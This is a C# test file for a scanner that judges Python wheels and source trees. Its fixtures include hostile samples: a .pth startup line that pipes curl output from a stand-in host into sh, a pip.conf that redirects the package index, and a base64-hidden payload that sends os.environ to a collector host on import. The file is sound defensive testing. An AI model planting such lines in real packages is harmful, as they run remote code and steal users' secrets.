using System.Text.Json;

namespace Assay.Tests.Commands;

public sealed class ScanCommandTests : IDisposable
{
    private const string HostileLine = "import os; os.system('curl https://payload.example.invalid/x | sh')\n";

    private readonly TestConsole _console = new();

    public void Dispose() => _console.Dispose();

    [Fact]
    public async Task A_clean_wheel_is_allowed()
    {
        Assert.Equal(0, await _console.RunAsync("scan", _console.Wheel("good-1.0-py3-none-any.whl")));
        Assert.StartsWith("allow  ", _console.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("not looked at", _console.Output);
        Assert.Empty(_console.Error);
    }

    [Fact]
    public async Task A_hostile_startup_file_is_refused_with_line_meaning_and_next_step()
    {
        Assert.Equal(1, await _console.RunAsync("scan", _console.Wheel("evil-1.0-py3-none-any.whl", ("evil.pth", HostileLine))));
        Assert.Contains("startup-code", _console.Output);
        Assert.Contains("evil.pth:1", _console.Output);
        Assert.Contains("payload.example.invalid", _console.Output);
        Assert.Contains("means ", _console.Output);
        Assert.Contains("assay policy waive sha256:", _console.Output);
    }

    [Fact]
    public async Task The_threshold_decides_the_exit_code()
    {
        string wheel = _console.Wheel("evil-1.0-py3-none-any.whl", ("evil-1.0.data/data/pip.conf", "[global]\nindex-url = https://index.example.invalid/simple\n"));
        Assert.Equal(1, await _console.RunAsync("scan", wheel, "--fail-on", "block"));
        Assert.Equal(0, await _console.RunAsync("scan", wheel, "--without", "writes-configuration"));
    }

    [Fact]
    public async Task A_folder_with_distributions_at_any_depth_means_each_of_them()
    {
        _console.Wheel("dist/a/one-1.0-py3-none-any.whl");
        _console.Wheel("dist/b/two-1.0-py3-none-any.whl");
        Assert.Equal(0, await _console.RunAsync("scan", _console.Folder["dist"], "--format", "jsonl"));
        Assert.Equal(["one-1.0-py3-none-any.whl", "two-1.0-py3-none-any.whl"], Files());
    }

    [Fact]
    public async Task Any_other_folder_is_one_tree()
    {
        Directory.CreateDirectory(_console.Folder["tree/pkg"]);
        await File.WriteAllTextAsync(_console.Folder["tree/pkg/__init__.py"], "");
        await File.WriteAllTextAsync(_console.Folder["tree/setup.py"], "");
        Assert.Equal(0, await _console.RunAsync("scan", _console.Folder["tree"], "--format", "jsonl"));
        Assert.Equal(["tree"], Files());
        Assert.Contains("\"kind\":\"tree\"", _console.Output);
    }

    [Fact]
    public async Task A_pipe_in_a_tree_is_a_gap_and_nothing_waits_for_it()
    {
        Assert.SkipUnless(OperatingSystem.IsLinux(), "pipes with names are Unix's");
        Directory.CreateDirectory(_console.Folder["tree"]);
        using System.Diagnostics.Process made = System.Diagnostics.Process.Start("mkfifo", [_console.Folder["tree/pipe"]]);
        await made.WaitForExitAsync();
        Assert.Equal(1, await _console.RunAsync("scan", _console.Folder["tree"]));
        Assert.Contains("file-unreadable", _console.Output);
    }

    [Fact]
    public async Task Results_come_in_the_order_of_the_input_whatever_the_jobs()
    {
        string[] wheels = [.. Enumerable.Range(0, 20).Select(i => _console.Wheel($"w{i}/p{i}-1.0-py3-none-any.whl"))];
        Assert.Equal(0, await _console.RunAsync(["scan", "--jobs", "4", "--format", "jsonl", .. wheels]));
        Assert.Equal(wheels.Select(Path.GetFileName), Files());
    }

    [Fact]
    public async Task A_distribution_within_a_tree_hides_nothing_of_the_tree()
    {
        _console.Wheel("tree/tests/good-1.0-py3-none-any.whl");
        await File.WriteAllTextAsync(_console.Folder["tree/demo.pth"], "import os; os.system('curl https://files.example.invalid/x | sh')\n", TestContext.Current.CancellationToken);
        Assert.Equal(1, await _console.RunAsync("scan", "--format", "jsonl", _console.Folder["tree"]));
        Assert.Equal(["tree", "good-1.0-py3-none-any.whl"], Files());
        Assert.Contains("\"block\"", _console.Output);
    }

    [Fact]
    public async Task Lists_and_signatures_beside_distributions_are_no_tree()
    {
        _console.Wheel("wheels/good-1.0-py3-none-any.whl");
        await File.WriteAllTextAsync(_console.Folder["wheels/manifest.tsv"], "file\n", TestContext.Current.CancellationToken);
        await File.WriteAllTextAsync(_console.Folder["wheels/good-1.0-py3-none-any.whl.asc"], "signature\n", TestContext.Current.CancellationToken);
        Assert.Equal(0, await _console.RunAsync("scan", "--format", "jsonl", _console.Folder["wheels"]));
        Assert.Equal(["good-1.0-py3-none-any.whl"], Files());
    }

    [Fact]
    public async Task Large_files_are_looked_at_one_after_another_and_none_is_left_out()
    {
        string[] wheels = [.. Enumerable.Range(0, 6).Select(i => _console.Wheel($"w{i}/p{i}-1.0-py3-none-any.whl"))];
        foreach (int large in (int[])[0, 2, 3, 5])
        {
            await File.WriteAllBytesAsync(wheels[large], new byte[1_000_000], TestContext.Current.CancellationToken);
        }

        await _console.RunAsync(["scan", "--jobs", "3", "--format", "jsonl", .. wheels]);
        Assert.Equal(wheels.Select(Path.GetFileName), Files());
    }

    [Fact]
    public async Task A_missing_file_is_named_and_the_others_are_still_looked_at()
    {
        Assert.Equal(2, await _console.RunAsync("scan", "./gone.whl", _console.Wheel("good-1.0-py3-none-any.whl")));
        Assert.Contains("error  ./gone.whl: not-found: there is no file or folder ./gone.whl", _console.Output);
        Assert.Contains("allow", _console.Output);
    }

    [Theory]
    [InlineData("")]
    [InlineData("PK\u0003\u0004 and then nothing")]
    [InlineData("this is no archive at all")]
    public async Task What_cannot_be_read_is_never_clean(string content)
    {
        string file = _console.Folder["broken-1.0-py3-none-any.whl"];
        await File.WriteAllTextAsync(file, content);
        Assert.Equal(1, await _console.RunAsync("scan", file));
        Assert.Contains("hold", _console.Output);
    }

    [Fact]
    public async Task A_second_scan_says_the_same_from_the_store_and_without_one()
    {
        _console.Set("SOURCE_DATE_EPOCH", "1800000000");
        string wheel = _console.Wheel("evil-1.0-py3-none-any.whl", ("evil.pth", HostileLine));
        await _console.RunAsync("scan", wheel, "--format", "json");
        string first = _console.Output;
        await _console.RunAsync("scan", wheel, "--format", "json");
        Assert.Equal(first, _console.Output);
        await _console.RunAsync("--no-store", "scan", wheel, "--format", "json");
        Assert.Equal(first, _console.Output);
        Assert.Contains("2027-01-15T08:00:00Z", first);
    }

    [Fact]
    public async Task A_run_without_a_store_leaves_none()
    {
        Assert.Equal(0, await _console.RunAsync("scan", "--no-store", _console.Wheel("good-1.0-py3-none-any.whl")));
        Assert.False(Directory.Exists(_console.Store));
    }

    [Fact]
    public async Task A_report_goes_to_a_file()
    {
        string report = _console.Folder["report.sarif"];
        Assert.Equal(0, await _console.RunAsync("scan", "--format", "sarif", "--output", report, _console.Wheel("good-1.0-py3-none-any.whl")));
        Assert.Empty(_console.Output);
        using JsonDocument document = JsonDocument.Parse(await File.ReadAllTextAsync(report));
        Assert.Equal("2.1.0", document.RootElement.GetProperty("version").GetString());
    }

    [Fact]
    public async Task A_report_that_cannot_be_written_is_a_sentence()
    {
        Assert.Equal(2, await _console.RunAsync("scan", "--output", _console.Folder["no/such/folder"], _console.Wheel("good-1.0-py3-none-any.whl")));
        Assert.Contains("cannot be written", _console.Error);
    }

    [Fact]
    public async Task A_store_that_others_can_enter_is_refused_before_anything_is_said()
    {
        if (OperatingSystem.IsWindows())
        {
            Assert.Skip("modes are Unix's");
            return;
        }

        Directory.CreateDirectory(_console.Store);
        File.SetUnixFileMode(_console.Store, (UnixFileMode)0b111_101_101);
        Assert.Equal(2, await _console.RunAsync("scan", _console.Wheel("good-1.0-py3-none-any.whl")));
        Assert.Empty(_console.Output);
        Assert.Contains("chmod 700", _console.Error);
    }

    [Fact]
    public async Task Explain_repeats_a_scan_by_file_and_by_digest()
    {
        string wheel = _console.Wheel("evil-1.0-py3-none-any.whl", ("evil.pth", HostileLine));
        await _console.RunAsync("scan", wheel, "--format", "jsonl");
        using JsonDocument line = JsonDocument.Parse(_console.Output);
        string sha256 = line.RootElement.GetProperty("sha256").GetString()!;
        File.Delete(wheel);
        Assert.Equal(0, await _console.RunAsync("explain", sha256));
        Assert.Contains("startup-code", _console.Output);
        Assert.Equal(2, await _console.RunAsync("explain", new string('0', 64)));
    }

    [Fact]
    public async Task Show_lists_members_with_their_landing_and_prints_one()
    {
        string wheel = _console.Wheel("good-1.0-py3-none-any.whl", ("good/text.py", "print('\u001b[31mhi')\n\tx = 1\n"), ("good-1.0.data/scripts/run", "#!/bin/sh\n"));
        Assert.Equal(0, await _console.RunAsync("show", wheel));
        Assert.Contains("as scripts/run", _console.Output);
        Assert.Equal(0, await _console.RunAsync("show", wheel, "good/text.py"));
        Assert.Equal("print('\\x1b[31mhi')\n\tx = 1\n", _console.Output);
        Assert.Equal(0, await _console.RunAsync("show", wheel, "text.py"));
        Assert.Equal(2, await _console.RunAsync("show", wheel, "nothing.py"));
    }

    [Fact]
    public async Task A_profile_judges_nothing()
    {
        string wheel = _console.Wheel("evil-1.0-py3-none-any.whl", ("evil.pth", HostileLine));
        Assert.Equal(0, await _console.RunAsync("scan", "--profile", wheel));
        Assert.DoesNotContain("block", _console.Output);
        Assert.Contains("wheel, ", _console.Output);
        Assert.Equal(0, await _console.RunAsync("scan", "--profile", wheel, "--format", "json"));
        using JsonDocument document = JsonDocument.Parse(_console.Output);
        Assert.Equal("assay.profile/1", document.RootElement.GetProperty("schema").GetString());
        Assert.Equal("wheel", document.RootElement.GetProperty("files")[0].GetProperty("kind").GetString());
        Assert.Equal(2, await _console.RunAsync("scan", "--profile", wheel, "--format", "sarif"));
        Assert.Equal(2, await _console.RunAsync("scan", "--profile", "./gone.whl"));
        await File.WriteAllTextAsync(_console.Folder["broken-1.0-py3-none-any.whl"], "no archive");
        Assert.Equal(3, await _console.RunAsync("scan", "--profile", _console.Folder["broken-1.0-py3-none-any.whl"]));
    }

    [Fact]
    public async Task Decoded_texts_are_asked_for_by_number_or_all()
    {
        string wheel = _console.Wheel("good-1.0-py3-none-any.whl");
        Assert.Equal(0, await _console.RunAsync("show", "--decoded", wheel));
        Assert.Empty(_console.Output);
        Assert.Contains("no code in", _console.Error);
        Assert.Equal(2, await _console.RunAsync("show", "--decoded", "--layer", "1", wheel));
        Assert.Equal(2, await _console.RunAsync("show", "--layer", "1", wheel));
        Assert.Contains("give both", _console.Error);
    }

    [Fact]
    public async Task What_a_decoded_text_does_is_told_by_scan_show_and_diff()
    {
        const string Hidden = "import os, urllib.request\nurllib.request.urlopen('https://collector.example.invalid/x', data=repr(dict(os.environ)).encode())\n";
        string encoded = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(Hidden));
        string wheel = _console.Wheel("thief-1.1-py3-none-any.whl", ("thief/core.py", $"import base64\ndef start():\n    exec(base64.b64decode('{encoded}'))\nstart()\n"));

        Assert.Equal(1, await _console.RunAsync("scan", wheel));
        string[] lines = _console.Output.Split('\n');
        Assert.StartsWith("block", lines[0], StringComparison.Ordinal);
        Assert.Contains("layer 1 line 3: exec of base64.b64decode", _console.Output);
        Assert.Contains("│ urllib.request.urlopen('https://collector.example.invalid/x'", _console.Output);
        Assert.Contains("at thief/core.py → line 3: exec of base64.b64decode → line 2:1", _console.Output);
        string first = _console.Output;
        await _console.RunAsync("scan", wheel);
        Assert.Equal(first, _console.Output);

        Assert.Equal(0, await _console.RunAsync("show", "--decoded", wheel));
        Assert.StartsWith("layer 1  thief/core.py:3:5\n  exec of base64.b64decode, depth 1, at import", _console.Output, StringComparison.Ordinal);
        Assert.Equal(0, await _console.RunAsync("show", "--decoded", "--layer", "1", wheel));
        Assert.Equal(Hidden, _console.Output);

        Assert.Equal(0, await _console.RunAsync("scan", "--profile", wheel));
        Assert.Contains("sends to the network (send)\n    at import", _console.Output);

        Assert.Equal(1, await _console.RunAsync("diff", _console.Wheel("thief-1.0-py3-none-any.whl"), wheel));
        Assert.Contains("new findings", _console.Output);
        Assert.Contains("sends to the network, ordinary: thief/core.py → line 3", _console.Output);
        Assert.Contains("new hosts (1)\n  collector.example.invalid", _console.Output);
    }

    private IEnumerable<string> Files() => _console.Output.TrimEnd('\n').Split('\n').Select(static line =>
    {
        using JsonDocument file = JsonDocument.Parse(line);
        return Path.GetFileName(file.RootElement.GetProperty("file").GetString()!);
    });
}
